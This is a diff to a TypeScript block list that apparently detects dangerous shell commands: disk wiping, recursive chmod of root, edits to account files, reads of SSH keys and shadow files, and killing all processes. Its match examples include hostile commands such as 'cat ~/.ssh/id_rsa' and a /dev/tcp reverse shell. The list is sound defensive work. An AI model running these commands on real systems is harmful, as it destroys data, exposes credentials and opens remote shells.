@@ -2,16 +2,17 @@ import type { SafetyEntry } from './safety-entry.js';
 
 /** `/`, a system directory, or somebody's home, also with everything in it. */
 const ROOTS =
-  /^(?:\/|~|\$\{?HOME\}?|\/root|\/home|\/Users|~\w+|(?:\/home|\/Users)\/[\w.-]+|\/(?:bin|boot|dev|etc|lib\w*|opt|proc|run|sbin|srv|sys|usr|var|System|Library|Applications)|\/\{[^}]*\}|\/(?:usr|var)\/(?:bin|lib|local|sbin|share))?(?:\/?(?:\*|\.\*|\.\[[^\]]*\]\*))?$/;
+  /^(?:\/|~|\$\{?HOME(?::\?[^}]*)?\}?|\/root|\/home|\/Users|~\w+|(?:\/home|\/Users)\/[\w.-]+|\/(?:bin|boot|dev|etc|lib\w*|opt|proc|run|sbin|srv|sys|usr|var|System|Library|Applications)|\/\{[^}]*\}|\/(?:usr|var)\/(?:bin|lib|local|sbin|share))?(?:\/?(?:\*|\.\*|\.\[[^\]]*\]\*))?$/;
 const FROM_ROOT = new RegExp(`^(?=[/~$])${ROOTS.source.slice(1)}`);
 const DEVICES =
   /^(?:of=)?\/dev\/(?:[shv]d[a-z]|xvd|nvme|mmcblk|disk|r?disk\d|mapper\/|md\d|dm-|loop|mem$|kmem$|port$)/;
 const ACCOUNTS =
   /^(?:of=)?(?:\/etc\/(?:passwd|g?shadow|group|sudoers|sudoers\.d\/.*|pam\.d\/.*|ld\.so\.preload|ssh\/sshd_config)-?|(?:.*\/)?\.ssh\/(?:authorized_keys2?|rc|config|environment))$/;
 const SECRETS =
-  /^\S*?(?:^|[/=@:])(?:etc\/g?shadow-?|etc\/sudoers|\.ssh\/(?:id_[\w-]+(?<!\.pub)|identity|[\w.-]*_(?:rsa|dsa|ecdsa|ed25519)|\*|id\*|id_\*)|ssh\/ssh_host_\w+_key|(?<=[/=@:])id_(?:rsa|dsa|ecdsa|ed25519)|etc\/ssl\/private(?:\/.*)?|\.gnupg\/(?:private-keys.*|secring.*)|proc\/(?:\d+|self|\*|\$\$|\$PPID)\/(?:environ|mem))$/;
+  /^\S*?(?:^|[/=@:])(?:etc\/g?shadow-?|etc\/sudoers|etc\/g?sh[a-z]*[*?[]\S*|\.ssh\/(?!\S*\.pub$)[^/]*[*?[]\S*|\.ssh\/(?:id_[\w-]+(?<!\.pub)|identity|[\w.-]*_(?:rsa|dsa|ecdsa|ed25519)|\*|id\*|id_\*)|ssh\/ssh_host_\w+_key|(?<=[/=@:])id_(?:rsa|dsa|ecdsa|ed25519)|etc\/ssl\/private(?:\/.*)?|\.gnupg\/(?:private-keys.*|secring.*)|proc\/(?:\d+|self|\*|\$\$|\$PPID)\/(?:environ|mem))$/;
 const READERS =
-  'cat tac head tail less more most bat batcat nl rev cp mv scp sftp rsync curl wget base64 base32 basenc xxd od hexdump hd strings tar zip 7z gzip bzip2 xz zstd openssl grep egrep fgrep rg ag awk gawk sed cut sort uniq paste tee dd nc ncat socat vim vi nano emacs view ed ex diff cmp comm fold fmt pr iconv look xargs mail sendmail ftp lftp http https install ln';
+  'cat tac head tail less more most bat batcat nl rev cp mv scp sftp rsync curl wget base64 base32 basenc xxd od hexdump hd strings tar zip 7z gzip bzip2 xz zstd openssl grep egrep fgrep rg ag awk gawk sed cut sort uniq paste tee dd nc ncat socat vim vi nano emacs view ed ex diff cmp comm fold fmt pr iconv look xargs mail sendmail ftp lftp http https install ln git';
+const LANGUAGES = 'python python2 python3 perl ruby node nodejs php lua';
 
 export const SAFETY_LIST: readonly SafetyEntry[] = [
   {
@@ -47,6 +48,8 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
       { programs: 'mkfs mkfs.* mke2fs mkswap newfs newfs_* mkdosfs' },
       { programs: 'wipefs', options: ['-a --all'], operand: DEVICES },
       { programs: 'blkdiscard', operand: DEVICES },
+      { programs: 'sgdisk', options: ['-Z -z --zap-all -o --clear'], operand: DEVICES },
+      { programs: 'parted', operand: DEVICES, argument: /^(?:mklabel|mktable|mkpart|rm)$/ },
     ],
     match: ['mkfs.ext4 /dev/sda1', 'mkfs -t ext4 /dev/sdb', 'sudo wipefs -a /dev/sda', 'mke2fs image'],
     notMatch: ['lsblk', 'fdisk -l /dev/sda', 'man mkfs'],
@@ -117,6 +120,7 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
     conditions: [
       { programs: 'chmod', options: ['-R --recursive'], operand: FROM_ROOT },
       { programs: 'chown chgrp', options: ['-R --recursive'], operand: FROM_ROOT },
+      { programs: 'chmod', argument: /^[0-7]?[0-7]?77[67]$/, operand: /^\/$/ },
     ],
     match: ['chmod -R 777 /', 'chmod 0777 -R /etc', 'chown -R nobody /', 'sudo chmod --recursive a+rwx /usr'],
     notMatch: ['chmod -R 755 dist', 'chmod 777 /tmp/x', 'chown -R me ./src'],
@@ -154,6 +158,11 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
       },
       { programs: 'sed perl', options: ['-i --in-place'], operand: ACCOUNTS },
       { programs: 'dd', argument: ACCOUNTS },
+      { programs: 'curl sort', options: ['-o --output'], operand: ACCOUNTS },
+      { programs: 'wget', options: ['-O --output-document'], operand: ACCOUNTS },
+      { programs: 'sponge', operand: ACCOUNTS },
+      { programs: 'visudo vipw vigr chpasswd' },
+      { programs: 'useradd usermod', options: ['-o --non-unique'] },
     ],
     match: [
       'echo x >> ~/.ssh/authorized_keys',
@@ -168,7 +177,15 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
   {
     id: 'read-secrets',
     explanation: 'It reads private keys, password hashes or the environment of another process.',
-    conditions: [{ programs: READERS, argument: SECRETS, exceptAfter: '-i' }, { reads: SECRETS }],
+    conditions: [
+      { programs: READERS, argument: SECRETS, exceptAfter: '-i' },
+      { reads: SECRETS },
+      { programs: 'cp mv tar zip 7z rsync scp', operand: /(?:^|[/~:])\.ssh$/ },
+      { programs: 'getent', operand: /^g?shadow$/ },
+      { programs: 'gpg gpg2', argument: /^--export-secret-(?:sub)?keys$/ },
+      { programs: 'ssh-keygen', options: ['-y'], argument: SECRETS },
+      { programs: LANGUAGES, argument: /["'](?:\/etc\/g?shadow|[^"']*\.ssh\/id_\w+)["']/ },
+    ],
     match: [
       'cat ~/.ssh/id_rsa',
       'cat /etc/shadow',
@@ -197,9 +214,11 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
       {
         programs: 'kill',
         argument: /^-1$/,
-        options: ['-9 -KILL -SIGKILL -kill -15 -TERM -SIGTERM -s --signal --'],
+        options: ['-9 -KILL -SIGKILL -kill -15 -TERM -SIGTERM -s -n --signal --'],
       },
       { programs: 'killall5' },
+      { programs: 'killall', options: ['-r --regexp'], operand: /^\.\*?$/ },
+      { programs: 'killall pkill', options: ['-u --user --euid'], operand: /^root$/ },
       { programs: 'pkill', operand: /^(?:\.|\.\*|\*|)$/ },
     ],
     match: [
@@ -220,6 +239,10 @@ export const SAFETY_LIST: readonly SafetyEntry[] = [
       { reads: /^\/dev\/(?:tcp|udp)\// },
       { programs: 'nc ncat netcat', options: ['-e --exec -c --sh-exec'] },
       { programs: 'socat', argument: /\b(?:exec|system):/i },
+      {
+        programs: LANGUAGES,
+        argument: /(?:socket|fsockopen)[\s\S]*(?:\/bin\/(?:ba)?sh|exec|subprocess|os\.execute|pty)/i,
+      },
     ],
     match: [
       'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
